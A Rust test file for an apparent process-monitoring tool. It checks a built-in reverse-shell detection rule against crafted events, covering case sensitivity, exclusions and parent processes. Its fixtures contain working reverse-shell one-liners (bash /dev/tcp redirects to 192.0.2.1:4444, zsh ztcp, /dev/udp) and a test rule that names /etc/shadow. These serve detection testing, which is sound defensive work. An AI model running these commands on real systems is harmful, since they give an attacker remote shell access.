//! The built-in seed rule ("Potential Reverse Shell Activity via Terminal") against crafted ECS
//! events, condition by condition, with Elasticsearch semantics (design.md §5): `in` is
//! case-sensitive, `:` is not and matches the whole value, arrays match on any element, and a
//! negated predicate on a missing field holds.
//!
//! Every case runs twice: as a replayed ECS document and, where a `ProcessEvent` can express it,
//! as a live event.

mod alloc_support;

use std::sync::{Arc, OnceLock};

use serde_json::{json, Value};

use alloc_support::allocations_in;
use execsentry::eql::Options;
use execsentry::event::{Action, HostInfo, Ids, ProcessEvent, ProcessInfo, SourceFacts};
use execsentry::rules::builtin::REVERSE_SHELL_RULE_ID;
use execsentry::rules::load::load_source;
use execsentry::rules::{load_builtin, Origin, Outcome, RuleSet};
use execsentry::{Document, JsonDocument};

fn rules() -> &'static RuleSet {
    static RULES: OnceLock<RuleSet> = OnceLock::new();
    RULES.get_or_init(|| {
        let reports = load_builtin(&Options::default());
        for r in &reports {
            assert!(
                matches!(r.outcome, Outcome::Ok(_)),
                "built-in rule {} did not load: {:?}",
                r.origin,
                r.outcome
            );
        }
        let (set, rest) = RuleSet::from_reports(reports);
        assert!(rest.is_empty());
        set
    })
}

fn alerts<D: Document>(doc: &D) -> bool {
    let mut hit = false;
    rules().evaluate(doc, |rule| {
        if rule.meta.rule_id == REVERSE_SHELL_RULE_ID {
            hit = true;
        }
    });
    hit
}

fn doc(v: Value) -> JsonDocument {
    match v {
        Value::Object(m) => JsonDocument::new(m),
        other => panic!("not an object: {other}"),
    }
}

/// A reverse shell as Elastic Defend reports it: everything the rule looks for.
fn base() -> Value {
    json!({
        "@timestamp": "2026-11-27T09:14:02.117Z",
        "event": {"id": "e1", "kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"name": "web-01", "os": {"type": "linux"}},
        "process": {
            "pid": 4242,
            "name": "bash",
            "executable": "/usr/bin/bash",
            "args": ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
            "command_line": "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "parent": {
                "pid": 4200,
                "name": "php-fpm8.2",
                "executable": "/usr/sbin/php-fpm8.2",
                "command_line": "php-fpm: pool www"
            }
        },
        "user": {"name": "www-data", "id": "33"}
    })
}

/// `base()` with `path` (a JSON pointer) set to `value`, or removed when `value` is `None`.
fn with(pointer: &str, value: Option<Value>) -> Value {
    let mut v = base();
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    let obj = v
        .pointer_mut(parent)
        .and_then(Value::as_object_mut)
        .unwrap_or_else(|| panic!("no object at {parent}"));
    match value {
        Some(x) => obj.insert(key.to_owned(), x),
        None => obj.remove(key),
    };
    v
}

fn check(case: &str, v: Value, expected: bool) {
    assert_eq!(alerts(&doc(v.clone())), expected, "{case}: {v}");
}

#[test]
fn the_reverse_shell_alerts() {
    check("base", base(), true);
}

#[test]
fn event_type_string_array_and_legacy_value() {
    check(
        "array start",
        with("/event/type", Some(json!(["start"]))),
        true,
    );
    check(
        "string start",
        with("/event/type", Some(json!("start"))),
        true,
    );
    check(
        "process_started",
        with("/event/type", Some(json!("process_started"))),
        true,
    );
    check(
        "any element",
        with("/event/type", Some(json!(["info", "start"]))),
        true,
    );
    check("end", with("/event/type", Some(json!(["end"]))), false);
    check("end string", with("/event/type", Some(json!("end"))), false);
    check(
        "Start is not start",
        with("/event/type", Some(json!("Start"))),
        false,
    );
    check("missing", with("/event/type", None), false);
}

#[test]
fn only_process_events() {
    check(
        "network category",
        with("/event/category", Some(json!(["network"]))),
        false,
    );
    check(
        "category string",
        with("/event/category", Some(json!("process"))),
        true,
    );
    check("no category", with("/event/category", None), false);
}

#[test]
fn process_name_in_is_case_sensitive() {
    for name in ["sh", "bash", "zsh", "dash", "zmodload"] {
        check(name, with("/process/name", Some(json!(name))), true);
    }
    for name in ["BASH", "Bash", "ksh", "python3", "bash5", ""] {
        check(name, with("/process/name", Some(json!(name))), false);
    }
    check("missing name", with("/process/name", None), false);
}

#[test]
fn network_arguments_as_array_and_as_scalar() {
    for arg in [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "cat < /dev/udp/198.51.100.7/53",
        "zmodload zsh/net/tcp && ztcp 203.0.113.5 8080",
        "zmodload zsh/net/udp",
        "exec 5<>/DEV/TCP/192.0.2.9/443",
        "/Dev/Udp/192.0.2.9/53",
    ] {
        check(
            &format!("array {arg}"),
            with("/process/args", Some(json!(["bash", "-c", arg]))),
            true,
        );
        check(
            &format!("scalar {arg}"),
            with("/process/args", Some(json!(arg))),
            true,
        );
    }
    for arg in [
        "ls -la /dev/",
        "echo /dev/tcp",
        "nc 192.0.2.1 4444",
        "zsh/net/socket",
    ] {
        check(
            &format!("array {arg}"),
            with("/process/args", Some(json!(["bash", "-c", arg]))),
            false,
        );
    }
    check("no args", with("/process/args", None), false);
    check("empty args", with("/process/args", Some(json!([]))), false);
}

#[test]
fn timeout_in_docker_overlay_is_excluded_only_together() {
    let mut v = base();
    v["process"]["parent"]["name"] = json!("timeout");
    v["process"]["executable"] = json!("/var/lib/docker/overlay2/abc/merged/bin/bash");
    check("timeout + overlay", v.clone(), false);
    v["process"]["parent"]["name"] = json!("TIMEOUT");
    check("TIMEOUT (`:` ignores case) + overlay", v.clone(), false);
    v["process"]["parent"]["name"] = json!("timeout2");
    check("not exactly timeout", v.clone(), true);
    let mut v = base();
    v["process"]["parent"]["name"] = json!("timeout");
    check("timeout alone", v, true);
    let mut v = base();
    v["process"]["executable"] = json!("/var/lib/docker/overlay2/abc/merged/bin/bash");
    check("overlay alone", v, true);
}

#[test]
fn noisy_command_lines_are_excluded() {
    for cmd in [
        "bash -c exec 3<>/dev/tcp/127.0.0.1/8080",
        "bash -c cat </dev/udp/127.0.0.53/53",
        "bash -c echo > /dev/tcp/localhost/22",
        "bash -c echo > /DEV/TCP/LOCALHOST/22",
        "sh -c exec 3<>/dev/tcp/$0/$1 host 80",
        "bash -c echo > /dev/tcp/kafka/9092",
        "bash -c echo > /dev/tcp/sirh_db/5432",
        "bash -c echo > /dev/tcp/remoteiot.com/443",
        "bash -c echo > /dev/tcp/itom-vault/8200",
        "bash -c echo > dev/tcp/elk.stag.one/9200",
    ] {
        check(cmd, with("/process/command_line", Some(json!(cmd))), false);
    }
    for cmd in [
        "bash -c echo > /dev/tcp/128.0.0.1/80",
        "bash -c echo > /dev/tcp/192.0.2.127/80",
    ] {
        check(cmd, with("/process/command_line", Some(json!(cmd))), true);
    }
    check("no command line", with("/process/command_line", None), true);
}

#[test]
fn runc_init_parent_is_excluded_and_missing_parents_are_not() {
    let parent_cmd = |c: Value| with("/process/parent/command_line", Some(c));
    check("runc init", parent_cmd(json!("runc init")), false);
    check("RUNC INIT", parent_cmd(json!("RUNC INIT")), false);
    check("runc init --x", parent_cmd(json!("runc init --x")), true);
    check(
        "no parent command line",
        with("/process/parent/command_line", None),
        true,
    );
    check("no parent at all", with("/process/parent", None), true);
}

#[test]
fn dotted_and_mixed_keys_match_like_nested_ones() {
    let flat = json!({
        "event.category": ["process"], "event.type": "start",
        "process.name": "sh",
        "process.args": ["sh", "-c", "sh -i >& /dev/udp/203.0.113.9/53 0>&1"],
        "process.parent": {"name": "node"}
    });
    check("flat", flat.clone(), true);
    let mut excluded = flat;
    excluded["process.parent"]["command_line"] = json!("runc init");
    check("flat, runc parent", excluded, false);
}

// ---- the same rule through the typed event ----

fn event(args: &[&str], parent: Option<(&str, &[&str])>, action: Action) -> ProcessEvent {
    let mut p = ProcessInfo {
        pid: 4242,
        ppid: 4200,
        executable: format!("/usr/bin/{}", args[0]).into(),
        args: args.iter().map(|s| s.to_string()).collect(),
        ids: Arc::new(Ids {
            user_id: "33".into(),
            user_name: Some("www-data".into()),
            ..Default::default()
        }),
        ..Default::default()
    };
    p.derive_names();
    let parent = parent.map(|(exe, pargs)| {
        let mut pp = ProcessInfo {
            pid: 4200,
            ppid: 1,
            executable: exe.into(),
            args: pargs.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        };
        pp.derive_names();
        Arc::new(pp)
    });
    ProcessEvent {
        timestamp_ns: 1_795_770_000_000_000_000,
        sequence: 1,
        action,
        process: Arc::new(p),
        parent,
        host: Arc::new(HostInfo {
            name: "web-01".into(),
            hostname: "web-01".into(),
            os_type: "linux".into(),
            ..Default::default()
        }),
        source: SourceFacts::None,
    }
}

#[test]
fn process_events() {
    let shell = ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"];
    let php: Option<(&str, &[&str])> = Some(("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]));
    assert!(alerts(&event(&shell, php, Action::Exec)));
    assert!(alerts(&event(&shell, None, Action::Exec)), "no parent");
    assert!(!alerts(&event(&shell, php, Action::Exit)), "exit event");
    assert!(alerts(&event(&shell, php, Action::Fork)), "fork is a start");
    assert!(alerts(&event(
        &["zsh", "-c", "zmodload zsh/net/tcp; ztcp 192.0.2.1 80"],
        php,
        Action::Exec
    )));
    assert!(alerts(&event(
        &["dash", "-c", "cat </dev/udp/192.0.2.1/53"],
        php,
        Action::Exec
    )));
    assert!(!alerts(&event(
        &["BASH", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
        php,
        Action::Exec
    )));
    assert!(!alerts(&event(
        &["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80"],
        php,
        Action::Exec
    )));
    assert!(!alerts(&event(
        &shell,
        Some(("/usr/bin/runc", &["runc", "init"])),
        Action::Exec
    )));
    assert!(!alerts(&event(
        &["bash", "-c", "ls /dev"],
        php,
        Action::Exec
    )));
}

// ---- RuleSet::evaluate does not allocate ----

#[test]
fn evaluate_does_not_allocate() {
    // The seed rule plus rules of other categories and an `any` rule, so every dispatch path
    // (matching category, other categories, `any`) runs.
    let mut reports: Vec<_> = load_builtin(&Options::default())
        .into_iter()
        .filter(|r| r.outcome.rule_id() == Some(REVERSE_SHELL_RULE_ID))
        .collect();
    for (i, query) in [
        r#"process where process.parent.name : "php-fpm*" and process.name in ("sh", "bash")"#,
        r#"network where destination.port == 4444"#,
        r#"file where file.path : "/etc/shadow""#,
        r#"any where event.action == "exec" and user.name == "www-data""#,
    ]
    .iter()
    .enumerate()
    {
        let src = format!(
            "[rule]\nrule_id = \"r{i}\"\nname = \"r{i}\"\nseverity = \"low\"\ntype = \"eql\"\nquery = '''{query}'''\n"
        );
        reports.push(load_source(
            Origin::Builtin("test"),
            &src,
            &Options::default(),
        ));
    }
    let (set, rest) = RuleSet::from_reports(reports);
    assert!(rest.is_empty(), "{rest:?}");
    assert_eq!(set.len(), 5);

    let shell = ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"];
    let php: Option<(&str, &[&str])> = Some(("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]));
    let typed = event(&shell, php, Action::Exec);
    let benign = event(&["ls", "-la"], None, Action::Exec);
    let json_hit = doc(base());
    let json_also = doc(with("/event/category", Some(json!(["network", "process"]))));
    let run = |matched: &mut [usize; 5]| {
        for _ in 0..100 {
            set.evaluate(&typed, |r| matched[r.index()] += 1);
            set.evaluate(&benign, |r| matched[r.index()] += 1);
            set.evaluate(&json_hit, |r| matched[r.index()] += 1);
            set.evaluate(&json_also, |r| matched[r.index()] += 1);
        }
    };
    run(&mut [0; 5]); // warm-up: lazily built per-thread matcher caches
    let mut matched = [0usize; 5];
    assert_eq!(allocations_in(|| run(&mut matched)), 0);
    // Seed and r0: the typed shell and both JSON documents. The network rule sees json_also
    // (no destination.port); the file rule sees nothing. The `any` rule: every event by
    // www-data with event.action exec (typed shell, benign is www-data too, both JSON docs).
    assert_eq!(matched, [300, 300, 0, 0, 400]);
}
